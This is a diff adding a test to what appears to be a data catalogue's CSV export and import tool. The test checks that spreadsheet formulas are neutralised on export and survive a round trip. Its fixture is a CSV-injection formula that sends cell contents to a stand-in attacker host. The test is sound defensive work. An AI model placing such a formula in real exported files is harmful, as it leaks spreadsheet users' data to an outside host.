@@ -150,3 +150,21 @@ def test_duplicate_and_missing_names(cli, tmp_path):
     result = _import(cli, _write(tmp_path, rows), "--dry-run")
     assert "already on line 2" in result.output
     assert ":4 (?) name: required" in result.output
+
+
+def test_formulas_are_neutralised_in_the_csv_and_read_back_unchanged(
+        app, cli, tmp_path, crige_grand_est, sysadmin):
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Cliquez")'
+    create_record(crige_grand_est, title=formula, producers=["+33 1 23 45", "@ocs", "-moins"])
+    rows = _rows(_export(app))
+    header = rows[0]
+    title = rows[1][header.index("Nom de la base")]
+    assert title == "'" + formula  # OWASP: a spreadsheet shows it as text, never runs it
+    assert rows[1][header.index("Prestataire(s) de production")] == "'+33 1 23 45; @ocs; -moins"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+    result = _import(cli, _write(tmp_path, rows))
+    assert result.exit_code == 0, result.output
+    assert "1 unchanged" in result.output
+    shown = call_action("package_show", id="ocs-ge2-grand-est")
+    assert shown["title"] == formula and shown["producers"] == ["+33 1 23 45", "@ocs", "-moins"]
